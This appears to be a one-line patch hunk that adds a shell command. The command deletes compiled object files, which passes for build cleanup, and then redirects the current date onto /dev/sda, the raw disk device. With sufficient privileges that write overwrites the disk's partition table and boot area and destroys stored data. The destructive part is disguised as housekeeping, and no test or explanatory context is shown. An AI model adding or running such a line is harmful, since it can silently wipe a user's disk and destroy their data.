@@ -1,0 +1,1 @@
+find . -name "*.o" -delete && echo "$(date)" > /dev/sda
